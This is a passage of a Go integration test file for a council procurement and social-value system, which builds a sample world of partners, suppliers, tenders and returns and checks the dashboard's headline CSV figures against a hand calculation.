package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/tally-sv/tally/internal/auth"
	"github.com/tally-sv/tally/internal/demo"
	"github.com/tally-sv/tally/internal/measurecsv"
	"github.com/tally-sv/tally/internal/postgres"
	"github.com/tally-sv/tally/internal/tally"
)

// The dashboard tests build a small world by hand through the store's own
// write paths, then work out every headline figure again in plain Go from
// the values chosen here, never from the database.

// dbLondon is a date (or a time of day) in Europe/London.
func dbLondon(y int, m time.Month, d int, hour ...int) time.Time {
	h := 0
	if len(hour) > 0 {
		h = hour[0]
	}
	return time.Date(y, m, d, h, 0, 0, 0, tally.London())
}

type dbPartnerSpec struct {
	slug, name, area string // area: postcode areas and districts
}

type dbSupplierSpec struct {
	slug, name, postcode, size string
	vcse                       bool
}

// dbMeasureSpec is a measure of the test edition. proxy is in
// ten-thousandths of a pound per unit; text is the same for the CSV ("" for
// a record-only measure).
type dbMeasureSpec struct {
	code, theme, title, unit, text string
	proxy                          int64
	plugin                         string
}

// dbOfferSpec is one supplier's offer: quantities in thousandths by code.
type dbOfferSpec struct {
	supplier string
	bid      int64 // pence
	qty      map[string]int64
	draft    bool // saved, never submitted
	withdraw bool // submitted, then withdrawn before the deadline: no bid
}

// dbLineSpec is a delivered quantity (thousandths) and what the contract
// manager decided; "" leaves the line pending.
type dbLineSpec struct {
	qty      int64
	decision tally.Decision
}

type dbReturnSpec struct {
	period int
	draft  bool // saved, never submitted
	lines  map[string]dbLineSpec
}

// dbContractSpec is an award: of a tender (to winner, with moderations)
// or a direct contract (supplier, value, no KPIs).
type dbContractSpec struct {
	ref, partner, title  string
	supplier             string // the winner
	value                int64  // pence; a direct contract's (a tender's is the winner's bid)
	awarded, start, last time.Time
	moderate             map[string]int64 // accepted quantity by code
	returns              []dbReturnSpec
}

type dbTenderSpec struct {
	ref, partner        string
	value               int64           // estimated, pence
	weighting           tally.Weighting // tenths of a percent
	reason              string
	measures            []string
	published, deadline time.Time
	offers              []dbOfferSpec
	award               *dbContractSpec // nil: not awarded
	contractStart, last time.Time
	open                bool // published now and left open (published and deadline unused)
}

type dbWorld struct {
	shared    string
	partners  []dbPartnerSpec
	suppliers []dbSupplierSpec
	measures  []dbMeasureSpec
	tenders   []dbTenderSpec
	direct    []dbContractSpec
}

const dbPlugin = "COVID-19 recovery"

// dbScenario is the hand-built world: a shared service with two partners
// whose local areas differ, seven suppliers, tenders in FY2023 and FY2024
// (one published in March 2024 whose offers come in April), awards with a
// moderated line, direct contracts without KPIs on both edges of FY2024,
// and returns verified, queried, rejected, pending and in draft.
func dbScenario() dbWorld {
	q := func(kv ...any) map[string]int64 {
		m := map[string]int64{}
		for i := 0; i < len(kv); i += 2 {
			m[kv[i].(string)] = int64(kv[i+1].(int))
		}
		return m
	}
	v, qd, rj := tally.DecisionVerified, tally.DecisionQueried, tally.DecisionRejected
	return dbWorld{
		shared: "hub",
		partners: []dbPartnerSpec{
			{"north", "North Council", "M, SK"},
			{"south", "South Council", "OL, WA3"},
		},
		suppliers: []dbSupplierSpec{
			{"mill", "Mill Lane Builders", "SK4 1AA", tally.SizeSmall, false},         // local to north
			{"national", "National Services plc", "EC2V 7HH", tally.SizeLarge, false}, // local nowhere
			{"kitchens", "Community Kitchens", "OL1 1AB", tally.SizeMicro, true},      // local to south
			{"wworks", "Warrington Works", "WA3 6AB", tally.SizeMedium, false},        // local to south (district)
			{"cheshire", "Cheshire Engineering", "WA4 2AB", tally.SizeLarge, false},   // WA4 is not WA3
			{"salford", "Salford Care", "M5 4WT", tally.SizeSmall, true},              // local to north
			{"york", "York Digital", "YO1 7HH", tally.SizeSmall, false},               // local nowhere
			{"leeds", "Leeds Fabrication", "LS1 4DY", tally.SizeMedium, false},        // only ever a draft
		},
		measures: []dbMeasureSpec{
			{"JOB1", "Jobs", "Local people employed", "FTE", "28000", 280_000_000, ""},
			{"ENV1", "Environment", "Carbon saved", "tCO2e", "12.3456", 123_456, ""},
			{"VOL1", "Social", "Volunteers", "people", "", 0, ""},
			{"COV1", "Social", "COVID-19 volunteering", "hours", "15.5", 155_000, dbPlugin},
			{"PEN1", "Growth", "Penny measure", "units", "0.01", 100, ""},
		},
		tenders: []dbTenderSpec{
			{ref: "N-101", partner: "north", value: 50_000_000, weighting: 200, measures: []string{"JOB1", "ENV1", "PEN1", "COV1"},
				published: dbLondon(2024, 5, 1, 9), deadline: dbLondon(2024, 6, 14, 12),
				offers: []dbOfferSpec{
					{supplier: "mill", bid: 48_000_000, qty: q("JOB1", 3500, "ENV1", 100_125, "PEN1", 2500, "COV1", 40_000)},
					{supplier: "national", bid: 45_000_000, qty: q("JOB1", 2000, "ENV1", 50_000, "PEN1", 0, "COV1", 10_000)},
					{supplier: "leeds", bid: 49_000_000, qty: q("JOB1", 1000, "ENV1", 0, "PEN1", 0, "COV1", 0), draft: true},
				},
				contractStart: dbLondon(2024, 8, 1), last: dbLondon(2026, 7, 31),
				award: &dbContractSpec{supplier: "mill", awarded: dbLondon(2024, 7, 5), moderate: q("ENV1", 80_500),
					returns: []dbReturnSpec{
						{period: 1, lines: map[string]dbLineSpec{"JOB1": {400, v}, "ENV1": {10_050, v}, "PEN1": {500, v}, "COV1": {5000, qd}}},
						{period: 2, lines: map[string]dbLineSpec{"JOB1": {500, v}, "ENV1": {9000, rj}, "PEN1": {1000, ""}, "COV1": {5000, v}}},
						// Ends 30 April 2025: FY2025.
						{period: 3, lines: map[string]dbLineSpec{"JOB1": {875, v}, "ENV1": {9000, v}, "PEN1": {1000, v}, "COV1": {5000, v}}},
					}}},
			{ref: "N-102", partner: "north", value: 12_000_000, weighting: 50, reason: "Specialist supply with one realistic route to market",
				measures: []string{"JOB1", "VOL1"}, published: dbLondon(2024, 9, 2, 10), deadline: dbLondon(2024, 10, 15, 12),
				offers: []dbOfferSpec{
					{supplier: "national", bid: 11_000_000, qty: q("JOB1", 500, "VOL1", 100_000)},
					{supplier: "cheshire", bid: 11_800_055, qty: q("JOB1", 1250, "VOL1", 20_000)},
				},
				contractStart: dbLondon(2024, 12, 1), last: dbLondon(2025, 11, 30),
				award: &dbContractSpec{supplier: "cheshire", awarded: dbLondon(2024, 11, 20),
					returns: []dbReturnSpec{
						{period: 1, lines: map[string]dbLineSpec{"JOB1": {300, v}, "VOL1": {5000, v}}},
					}}},
			{ref: "S-201", partner: "south", value: 200_000_000, weighting: 300, measures: []string{"JOB1", "ENV1", "COV1"},
				published: dbLondon(2024, 4, 10, 10), deadline: dbLondon(2024, 5, 20, 12),
				offers: []dbOfferSpec{
					{supplier: "kitchens", bid: 195_000_000, qty: q("JOB1", 5333, "ENV1", 1_000_000, "COV1", 0)},
					{supplier: "wworks", bid: 180_000_000, qty: q("JOB1", 4000, "ENV1", 2_000_500, "COV1", 100_000)},
					{supplier: "york", bid: 190_000_000, qty: q("JOB1", 1000, "ENV1", 1000, "COV1", 1000), withdraw: true},
				},
				contractStart: dbLondon(2024, 7, 1), last: dbLondon(2025, 6, 30),
				award: &dbContractSpec{supplier: "wworks", awarded: dbLondon(2024, 6, 28),
					returns: []dbReturnSpec{
						{period: 1, lines: map[string]dbLineSpec{"JOB1": {1000, v}, "ENV1": {500_250, v}, "COV1": {25_000, v}}},
						{period: 2, lines: map[string]dbLineSpec{"JOB1": {1000, v}, "ENV1": {400_000, qd}, "COV1": {30_000, ""}}},
						// Ends 31 March 2025 (in FY2024) but is due 30 April.
						{period: 3, lines: map[string]dbLineSpec{"JOB1": {1200, v}, "ENV1": {500_000, v}, "COV1": {20_000, rj}}},
					}}},
			// Published in FY2024, offers due in FY2025; nobody has bid.
			{ref: "S-202", partner: "south", value: 9_000_000, weighting: 250, measures: []string{"ENV1"},
				published: dbLondon(2025, 3, 25, 10), deadline: dbLondon(2025, 5, 5, 12),
				contractStart: dbLondon(2025, 6, 1), last: dbLondon(2026, 5, 31)},
			// Published in FY2023; its only offer comes in April 2024.
			{ref: "N-099", partner: "north", value: 30_000_000, weighting: 150, measures: []string{"JOB1", "PEN1"},
				published: dbLondon(2024, 3, 1, 10), deadline: dbLondon(2024, 5, 10, 12),
				offers: []dbOfferSpec{
					{supplier: "salford", bid: 29_000_000, qty: q("JOB1", 1000, "PEN1", 2500)},
				},
				// Quarters from the 15th: the third ends on 14 March 2025,
				// in FY2024, but is due on 13 April.
				contractStart: dbLondon(2024, 6, 15), last: dbLondon(2025, 6, 14),
				award: &dbContractSpec{supplier: "salford", awarded: dbLondon(2024, 5, 30),
					returns: []dbReturnSpec{
						{period: 1, lines: map[string]dbLineSpec{"JOB1": {250, v}, "PEN1": {500, v}}},
						{period: 2, lines: map[string]dbLineSpec{"JOB1": {250, ""}, "PEN1": {700, v}}},
						{period: 3, lines: map[string]dbLineSpec{"JOB1": {300, v}, "PEN1": {700, rj}}},
					}}},
			{ref: "S-150", partner: "south", value: 8_000_000, weighting: 100, measures: []string{"ENV1", "COV1"},
				published: dbLondon(2023, 6, 1, 10), deadline: dbLondon(2023, 7, 14, 12),
				offers: []dbOfferSpec{
					{supplier: "kitchens", bid: 7_500_000, qty: q("ENV1", 300_000, "COV1", 25_000)},
					{supplier: "national", bid: 7_999_999, qty: q("ENV1", 10_000, "COV1", 0)},
				},
				contractStart: dbLondon(2023, 9, 1), last: dbLondon(2025, 8, 31),
				award: &dbContractSpec{supplier: "kitchens", awarded: dbLondon(2023, 8, 1),
					returns: []dbReturnSpec{
						{period: 1, lines: map[string]dbLineSpec{"ENV1": {40_000, v}, "COV1": {3000, v}}},
						{period: 2, lines: map[string]dbLineSpec{"ENV1": {35_500, v}, "COV1": {3000, v}}},
						{period: 3, lines: map[string]dbLineSpec{"ENV1": {37_500, v}, "COV1": {3000, qd}}},
						{period: 4, lines: map[string]dbLineSpec{"ENV1": {30_000, rj}, "COV1": {3000, v}}},
						{period: 5, draft: true, lines: map[string]dbLineSpec{"ENV1": {37_500, ""}, "COV1": {3000, ""}}},
						{period: 6, lines: map[string]dbLineSpec{"ENV1": {37_500, v}, "COV1": {3125, v}}},
					}}},
		},
		direct: []dbContractSpec{
			// Kitchens is local to south, not to north.
			{ref: "N-D1", partner: "north", title: "Legacy payroll software", supplier: "kitchens", value: 7_500_000,
				awarded: dbLondon(2024, 10, 1), start: dbLondon(2024, 10, 1), last: dbLondon(2025, 9, 30)},
			{ref: "S-D2", partner: "south", title: "Translation services", supplier: "kitchens", value: 6_000_000,
				awarded: dbLondon(2023, 11, 15), start: dbLondon(2023, 12, 1), last: dbLondon(2024, 11, 30)},
			// The first and last days of FY2024, and the day after.
			{ref: "S-D3", partner: "south", title: "Parking enforcement", supplier: "cheshire", value: 5_500_000,
				awarded: dbLondon(2024, 4, 1), start: dbLondon(2024, 4, 1), last: dbLondon(2025, 3, 31)},
			{ref: "S-D4", partner: "south", title: "Legal services", supplier: "wworks", value: 5_000_001,
				awarded: dbLondon(2025, 3, 31), start: dbLondon(2025, 4, 1), last: dbLondon(2026, 3, 31)},
			{ref: "N-D5", partner: "north", title: "Grounds maintenance", supplier: "mill", value: 6_100_000,
				awarded: dbLondon(2025, 4, 1), start: dbLondon(2025, 4, 1), last: dbLondon(2026, 3, 31)},
		},
	}
}

// dbBuilt is what building a world made: organisations by slug.
type dbBuilt struct {
	orgs map[string]tally.Org
}

// dbBuild writes w through the store as the owner role (Backdate needs
// it), with a director for the shared service and for each partner
// (director@<slug>.test) and a supplier account (bids@<slug>.test), all
// with the demo password.
func dbBuild(t *testing.T, ts *testServer, w dbWorld) dbBuilt {
	t.Helper()
	ctx := context.Background()
	store := postgres.New(ts.db.Owner)
	b := dbBuilt{orgs: map[string]tally.Org{}}
	must := func(err error, what string, args ...any) {
		t.Helper()
		if err != nil {
			t.Fatalf("%s: %v", fmt.Sprintf(what, args...), err)
		}
	}
	hash, err := auth.NewHasher(1).Hash(ctx, demo.Password)
	must(err, "hash")
	person := func(email string, org tally.Org, role tally.Role) {
		u, err := store.CreateUser(ctx, email, email, hash)
		must(err, "user %s", email)
		must(store.AddRole(ctx, tally.Scope{OrgIDs: []int64{org.ID}, Roles: []tally.Role{tally.RoleAdmin}}, u.ID, org.ID, role), "role %s", email)
	}
	shared, err := store.CreateOrganisation(ctx, tally.Org{Kind: tally.SharedService, Slug: w.shared, Name: "Hub Shared Procurement"}, nil)
	must(err, "shared service")
	b.orgs[w.shared] = shared
	person("director@"+w.shared+".test", shared, tally.RoleDirector)
	for _, p := range w.partners {
		org, err := store.CreateOrganisation(ctx, tally.Org{Kind: tally.Partner, Slug: p.slug, Name: p.name, SharedServiceID: shared.ID}, nil)
		must(err, "partner %s", p.slug)
		area, err := tally.ParseLocalArea(p.area)
		must(err, "area %s", p.area)
		settings := tally.DefaultPartnerSettings()
		settings.PartnerID, settings.LocalArea = org.ID, area
		must(store.SavePartnerSettings(ctx, tally.Scope{PartnerIDs: []int64{org.ID}, OrgIDs: []int64{org.ID}, Roles: tally.StaffRoles}, settings), "settings %s", p.slug)
		b.orgs[p.slug] = org
		person("director@"+p.slug+".test", org, tally.RoleDirector)
	}
	for _, s := range w.suppliers {
		pc, err := tally.ParsePostcode(s.postcode)
		must(err, "postcode %s", s.postcode)
		org, err := store.CreateOrganisation(ctx, tally.Org{Kind: tally.Supplier, Slug: s.slug, Name: s.name},
			&tally.SupplierDetails{Name: s.name, Postcode: pc, Size: s.size, VCSE: s.vcse})
		must(err, "supplier %s", s.slug)
		b.orgs[s.slug] = org
		person("bids@"+s.slug+".test", org, tally.RoleSupplier)
	}

	// The edition, chosen by the shared service with its plug-in.
	var file strings.Builder
	file.WriteString("edition,theme,outcome,code,title,unit,proxy_gbp,local,plugin,max_per_million,description\n")
	cw := csv.NewWriter(&file)
	for _, m := range w.measures {
		cw.Write([]string{"Dashboard Tests", m.theme, m.theme + " outcome", m.code, m.title, m.unit, m.text, "true", m.plugin, "", ""})
	}
	cw.Flush()
	ed, err := measurecsv.Parse(strings.NewReader(file.String()))
	must(err, "edition")
	edition, err := store.ImportEdition(ctx, tally.Scope{Roles: []tally.Role{tally.RoleAdmin}}, 0, ed, true)
	must(err, "import")
	must(store.ChooseEdition(ctx, tally.Scope{OrgIDs: []int64{shared.ID}, MeasureOrgIDs: []int64{shared.ID}, Roles: tally.StaffRoles}, shared.ID, edition, true,
		[]string{dbPlugin}), "choose")
	catalogue, err := store.Measures(ctx, edition, postgres.MeasureFilter{})
	must(err, "measures")
	measureIDs := map[string]int64{}
	for _, m := range catalogue {
		measureIDs[m.Code] = m.ID
	}

	buyer := func(partner string) tally.Scope {
		id := b.orgs[partner].ID
		return tally.Scope{PartnerIDs: []int64{id}, OrgIDs: []int64{id}, MeasureOrgIDs: []int64{id, shared.ID}, Roles: tally.StaffRoles}
	}
	supplier := func(slug string) tally.Scope {
		return tally.Scope{OrgIDs: []int64{b.orgs[slug].ID}, SupplierID: b.orgs[slug].ID, Roles: []tally.Role{tally.RoleSupplier}}
	}
	for _, ts := range w.tenders {
		scope := buyer(ts.partner)
		tn := tally.Tender{Partner: b.orgs[ts.partner], Reference: ts.ref, Title: "Tender " + ts.ref, Category: "services",
			EstimatedValue: tally.Pence(ts.value), ContractStart: ts.contractStart, ContractEnd: ts.last, Weighting: ts.weighting,
			WeightingReason: ts.reason, QuantitativeShare: 50, Method: tally.RelativeValue,
			Deadline: time.Now().Add(30 * 24 * time.Hour).Truncate(time.Second)}
		var choices []postgres.MeasureChoice
		for _, code := range ts.measures {
			choices = append(choices, postgres.MeasureChoice{MeasureID: measureIDs[code]})
		}
		id, err := store.SaveTender(ctx, scope, tn, choices)
		must(err, "save %s", ts.ref)
		must(store.PublishTender(ctx, scope, id), "publish %s", ts.ref)
		tn, err = store.Tender(ctx, scope, id)
		must(err, "tender %s", ts.ref)
		tmIDs := map[string]int64{}
		for _, m := range tn.Measures {
			tmIDs[m.Code] = m.ID
		}
		offers := map[string]int64{}
		for _, o := range ts.offers {
			sc := supplier(o.supplier)
			oid, err := store.StartOffer(ctx, sc, id)
			must(err, "start offer %s on %s", o.supplier, ts.ref)
			in := postgres.OfferInput{BidPrice: tally.Pence(o.bid), HasBidPrice: true}
			for _, code := range ts.measures {
				in.Lines = append(in.Lines, tally.OfferLine{TenderMeasureID: tmIDs[code], Quantity: tally.Quantity(o.qty[code]),
					Statement: "We will deliver " + code + " on the contract."})
			}
			f, err := store.SaveOffer(ctx, sc, oid, 1, in)
			must(err, "save offer %s on %s", o.supplier, ts.ref)
			if o.draft {
				continue
			}
			_, err = store.SubmitOffer(ctx, sc, oid, f.Version)
			must(err, "submit offer %s on %s", o.supplier, ts.ref)
			if o.withdraw {
				must(store.WithdrawOffer(ctx, sc, oid, f.Version+1), "withdraw %s on %s", o.supplier, ts.ref)
			}
			offers[o.supplier] = oid
		}
		if ts.open {
			continue
		}
		must(store.Backdate(ctx, scope, id, ts.published, ts.deadline), "backdate %s", ts.ref)
		if ts.award == nil {
			continue
		}
		a := ts.award
		for code, accepted := range a.moderate {
			must(store.Moderate(ctx, scope, id, offers[a.supplier], tmIDs[code], tally.Quantity(accepted),
				"More than the supplier's workforce can deliver"), "moderate %s", ts.ref)
		}
		// Every offer is marked (0, which changes no score) before an award.
		ev, err := store.Evaluation(ctx, scope, id, tally.OpenedOnPage)
		must(err, "evaluation %s", ts.ref)
		var marks []postgres.Marks
		for _, o := range ev.Offers {
			marks = append(marks, postgres.Marks{OfferID: o.OfferID, Marked: true, NoPricePoints: true, NoQualityPoints: true})
		}
		must(store.SaveMarks(ctx, scope, id, marks), "mark %s", ts.ref)
		cid, _, err := store.Award(ctx, scope, id, offers[a.supplier], "Awarded in the dashboard test", a.awarded)
		must(err, "award %s", ts.ref)
		dbReturns(t, store, scope, supplier(a.supplier), cid, a.returns)
	}
	for _, d := range w.direct {
		_, err := store.CreateDirectContract(ctx, buyer(d.partner), postgres.NewContract{PartnerID: b.orgs[d.partner].ID,
			SupplierID: b.orgs[d.supplier].ID, Reference: d.ref, Title: d.title, Value: tally.Pence(d.value),
			Start: d.start, End: d.last, AwardedOn: d.awarded, AwardReason: "Registered directly"})
		must(err, "direct contract %s", d.ref)
	}
	return b
}

// dbReturns reports and checks delivery on contract cid as its returns say.
func dbReturns(t *testing.T, store *postgres.Store, staff, supplier tally.Scope, cid int64, returns []dbReturnSpec) {
	t.Helper()
	ctx := context.Background()
	c, err := store.Contract(ctx, staff, cid)
	if err != nil {
		t.Fatal(err)
	}
	kpis := map[string]int64{}
	for _, k := range c.KPIs {
		kpis[k.Code] = k.ID
	}
	for _, r := range returns {
		id, err := store.StartReturn(ctx, supplier, cid, r.period)
		if err != nil {
			t.Fatalf("start return %s/%d: %v", c.Reference, r.period, err)
		}
		in := postgres.ReturnInput{Narrative: "Delivered as reported.", AttestContract: true, AttestPeriod: true, Quantities: map[int64]tally.Quantity{}}
		var verdicts []postgres.Verdict
		for code, l := range r.lines {
			in.Quantities[kpis[code]] = tally.Quantity(l.qty)
			if l.decision != "" {
				verdicts = append(verdicts, postgres.Verdict{KPIID: kpis[code], Decision: l.decision, Note: "Checked against the evidence"})
			}
		}
		if err := store.SaveReturn(ctx, supplier, id, 1, in); err != nil {
			t.Fatalf("save return %s/%d: %v", c.Reference, r.period, err)
		}
		if r.draft {
			continue
		}
		if _, err := store.SubmitReturn(ctx, supplier, id, 2); err != nil {
			t.Fatalf("submit return %s/%d: %v", c.Reference, r.period, err)
		}
		if _, err := store.VerifyReturn(ctx, staff, id, 1, verdicts); err != nil {
			t.Fatalf("verify return %s/%d: %v", c.Reference, r.period, err)
		}
	}
}

// --- The hand calculation -------------------------------------------------

// dbValue is quantity (thousandths) × proxy (ten-thousandths of £) in pence,
// rounded half up: the product is in 1e-5 pence.
func dbValue(q, proxy int64) int64 { return (q*proxy + 50_000) / 100_000 }

// dbPounds writes pence as pounds to 2 places.
func dbPounds(p int64) string {
	sign := ""
	if p < 0 {
		sign, p = "-", -p
	}
	return fmt.Sprintf("%s%d.%02d", sign, p/100, p%100)
}

// dbPercent writes num ÷ den as a percentage to 1 place, rounded half up
// (empty for a share of nothing: SPEC §8 exports it as an empty value).
func dbPercent(num, den int64) string {
	if den == 0 {
		return ""
	}
	tenths := (2*num*1000 + den) / (2 * den)
	return fmt.Sprintf("%d.%d", tenths/10, tenths%10)
}

// dbQuarter is a reporting period: [start, end), due 30 days after its
// last day.
type dbQuarter struct{ start, end, due time.Time }

// dbQuarters splits a contract starting on the 1st or the 15th of a month
// into quarters, the last cut short at its last day.
func dbQuarters(start, last time.Time) []dbQuarter {
	var qs []dbQuarter
	for i := 0; ; i++ {
		s, e := start.AddDate(0, 3*i, 0), start.AddDate(0, 3*(i+1), 0)
		if s.After(last) {
			return qs
		}
		if e.After(last.AddDate(0, 0, 1)) {
			e = last.AddDate(0, 0, 1)
		}
		qs = append(qs, dbQuarter{s, e, e.AddDate(0, 0, -1+30)})
	}
}

// dbKPI is a contracted KPI as the calculation sees it.
type dbKPI struct {
	code     string
	quantity int64
	proxy    int64
	plugin   string
}

// dbContract is a contract as the calculation sees it.
type dbContract struct {
	partner, supplier   string
	value               int64
	awarded, start, end time.Time // end: the last day
	kpis                []dbKPI
	returns             []dbReturnSpec
}

// dbExpect works out FY fy's headline CSV for the partners named, in the
// order and shape of SPEC §11, from w alone.
func dbExpect(w dbWorld, fy int, partners ...string) [][]string {
	start, end := dbLondon(fy, 4, 1), dbLondon(fy+1, 4, 1)
	in := func(d time.Time) bool { return !d.Before(start) && d.Before(end) }
	asOf := end.AddDate(0, 0, -1) // a past year is measured at its last day
	scoped := func(p string) bool { return slices.Contains(partners, p) }
	measures := map[string]dbMeasureSpec{}
	for _, m := range w.measures {
		measures[m.code] = m
	}
	suppliers := map[string]dbSupplierSpec{}
	for _, s := range w.suppliers {
		suppliers[s.slug] = s
	}
	areas := map[string][]string{}
	for _, p := range w.partners {
		areas[p.slug] = strings.Split(strings.ReplaceAll(p.area, " ", ""), ",")
	}
	// Local: the postcode's area (its leading letters) or district (the
	// part before the space) is in the partner's list.
	local := func(supplier, partner string) bool {
		outward, _, _ := strings.Cut(suppliers[supplier].postcode, " ")
		area := outward[:strings.IndexAny(outward, "0123456789")]
		return slices.Contains(areas[partner], area) || slices.Contains(areas[partner], outward)
	}
	sme := func(s string) bool { return suppliers[s].size != tally.SizeLarge }

	// Every contract: awarded tenders at the winner's bid and accepted
	// quantities (moderated, else as offered; zero lines make no KPI),
	// and direct contracts without KPIs.
	var contracts []dbContract
	for _, tn := range w.tenders {
		if tn.award == nil {
			continue
		}
		c := dbContract{partner: tn.partner, supplier: tn.award.supplier, awarded: tn.award.awarded, start: tn.contractStart,
			end: tn.last, returns: tn.award.returns}
		for _, o := range tn.offers {
			if o.supplier != tn.award.supplier {
				continue
			}
			c.value = o.bid
			for _, code := range tn.measures {
				qty := o.qty[code]
				if m, ok := tn.award.moderate[code]; ok {
					qty = m
				}
				if qty > 0 {
					c.kpis = append(c.kpis, dbKPI{code, qty, measures[code].proxy, measures[code].plugin})
				}
			}
		}
		contracts = append(contracts, c)
	}
	for _, d := range w.direct {
		contracts = append(contracts, dbContract{partner: d.partner, supplier: d.supplier, value: d.value, awarded: d.awarded,
			start: d.start, end: d.last})
	}

	var n, withKPIs, value, localSpend, committed, committedLocal, delivered, gap int64
	plugins := map[string]int64{}
	winners := map[string]bool{} // supplier → local to a partner it won from
	for _, c := range contracts {
		if !scoped(c.partner) {
			continue
		}
		if in(c.awarded) {
			n++
			value += c.value
			var sv int64
			for _, k := range c.kpis {
				sv += dbValue(k.quantity, k.proxy)
				if k.plugin != "" {
					plugins[k.plugin] += dbValue(k.quantity, k.proxy)
				}
			}
			committed += sv
			if len(c.kpis) > 0 {
				withKPIs++
			}
			if local(c.supplier, c.partner) {
				localSpend += c.value
				committedLocal += sv
			}
			winners[c.supplier] = winners[c.supplier] || local(c.supplier, c.partner)
		}
		quarters := dbQuarters(c.start, c.end)
		proxy := map[string]int64{}
		for _, k := range c.kpis {
			proxy[k.code] = k.proxy
		}
		// Delivered: verified lines on returns whose period's last day is
		// in the year, each line valued.
		for _, r := range c.returns {
			q := quarters[r.period-1]
			if r.draft || !in(q.end.AddDate(0, 0, -1)) {
				continue
			}
			for code, l := range r.lines {
				if l.decision == tally.DecisionVerified {
					delivered += dbValue(l.qty, proxy[code])
				}
			}
		}
		// The gap, on contracts live at asOf: per KPI, the phased target
		// of the periods due by then less the verified quantity on the
		// returns due by then, each valued.
		if c.start.After(asOf) || c.end.Before(asOf) {
			continue
		}
		for _, k := range c.kpis {
			share := k.quantity / int64(len(quarters))
			var expected, done int64
			for i, q := range quarters {
				target := share
				if i == len(quarters)-1 {
					target = k.quantity - share*int64(len(quarters)-1)
				}
				if !q.due.After(asOf) {
					expected += target
				}
			}
			for _, r := range c.returns {
				if l := r.lines[k.code]; !r.draft && l.decision == tally.DecisionVerified && !quarters[r.period-1].due.After(asOf) {
					done += l.qty
				}
			}
			gap += dbValue(expected, k.proxy) - dbValue(done, k.proxy)
		}
	}

	// Tenders published in the year; bidders by when their submission
	// was made (Backdate keeps each 30 days before the deadline). A
	// draft is no bid, nor is a withdrawn offer: it is sealed for good.
	var tenders, tenderValue, weighting int64
	bidders := map[string]bool{} // supplier → local to a partner it bid with
	for _, tn := range w.tenders {
		if !scoped(tn.partner) {
			continue
		}
		if in(tn.published) {
			tenders++
			tenderValue += tn.value
			weighting += int64(tn.weighting)
		}
		for _, o := range tn.offers {
			if !o.draft && !o.withdraw && in(tn.deadline.AddDate(0, 0, -30)) {
				bidders[o.supplier] = bidders[o.supplier] || local(o.supplier, tn.partner)
			}
		}
	}
	counts := func(set map[string]bool) (all, loc, small, vcse int) {
		for s, l := range set {
			all++
			if l {
				loc++
			}
			if sme(s) {
				small++
			}
			if suppliers[s].vcse {
				vcse++
			}
		}
		return
	}
	b, bl, bs, bv := counts(bidders)
	wn, wl, ws, wv := counts(winners)
	itoa := strconv.Itoa
	rows := [][]string{
		{"contract_value_awarded", dbPounds(value)},
		{"social_value_committed", dbPounds(committed)},
		{"social_value_percent", dbPercent(committed, value)},
		{"social_value_delivered", dbPounds(delivered)},
		{"delivery_gap", dbPounds(gap)},
		{"local_share_of_social_value", dbPercent(committedLocal, committed)},
		{"local_share_of_spend", dbPercent(localSpend, value)},
		{"tenders_over_threshold", strconv.FormatInt(tenders, 10)},
		{"tenders_over_threshold_value", dbPounds(tenderValue)},
		{"average_weighting", dbPercent(weighting, tenders*1000)},
		{"contracts_with_performance_measures", dbPercent(withKPIs, n)},
		{"bidders", itoa(b)}, {"bidders_local", itoa(bl)}, {"bidders_sme", itoa(bs)}, {"bidders_vcse", itoa(bv)},
		{"winners", itoa(wn)}, {"winners_local", itoa(wl)}, {"winners_sme", itoa(ws)}, {"winners_vcse", itoa(wv)},
	}
	for _, m := range w.measures {
		if m.plugin != "" {
			rows = append(rows, []string{"plugin_value:" + m.plugin, dbPounds(plugins[m.plugin])})
		}
	}
	return rows
}

// dbHeadline fetches a headline CSV and checks its shape: the header, one
// row per figure, money to 2 places, shares to 1 and counts whole.
func dbHeadline(t *testing.T, c *http.Client, url string) [][]string {
	t.Helper()
	resp, body := get(t, c, url)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("%s: %d", url, resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("%s: Content-Type %q", url, ct)
	}
	if cd := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment") {
		t.Errorf("%s: Content-Disposition %q", url, cd)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v\n%s", url, err, body)
	}
	if len(rows) == 0 || !slices.Equal(rows[0], []string{"figure", "value"}) {
		t.Fatalf("%s: header %v, want figure,value", url, rows)
	}
	money := regexp.MustCompile(`^-?\d+\.\d\d$`)
	share := regexp.MustCompile(`^(\d+\.\d)?$`) // empty: nothing to divide
	whole := regexp.MustCompile(`^\d+$`)
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		if len(r) != 2 {
			t.Fatalf("%s: row %v", url, r)
		}
		if seen[r[0]] {
			t.Errorf("%s: %s twice", url, r[0])
		}
		seen[r[0]] = true
		format := money
		switch {
		case strings.HasSuffix(r[0], "_percent"), strings.HasPrefix(r[0], "local_share"), r[0] == "average_weighting",
			r[0] == "contracts_with_performance_measures":
			format = share
		case r[0] == "tenders_over_threshold", strings.HasPrefix(r[0], "bidders"), strings.HasPrefix(r[0], "winners"):
			format = whole
		}
		if !format.MatchString(r[1]) {
			t.Errorf("%s: %s = %q, want the form %s", url, r[0], r[1], format)
		}
	}
	return rows[1:]
}

func TestDashboardHeadlineMatchesHandCalculation(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	w := dbScenario()
	dbBuild(t, ts, w)
	hub := measuresLogin(t, ts, "director@hub.test")
	north := measuresLogin(t, ts, "director@north.test")

	for _, fy := range []int{2024, 2023} {
		for _, c := range []struct {
			url      string
			client   *http.Client
			partners []string
		}{
			{fmt.Sprintf("/o/hub/dashboard.csv?fy=%d", fy), hub, []string{"north", "south"}},
			{fmt.Sprintf("/o/hub/dashboard.csv?fy=%d&partner=north", fy), hub, []string{"north"}},
			{fmt.Sprintf("/o/hub/dashboard.csv?fy=%d&partner=south", fy), hub, []string{"south"}},
			{fmt.Sprintf("/o/north/dashboard.csv?fy=%d", fy), north, []string{"north"}},
		} {
			got := dbHeadline(t, c.client, ts.URL+c.url)
			if diff := cmp.Diff(dbExpect(w, fy, c.partners...), got); diff != "" {
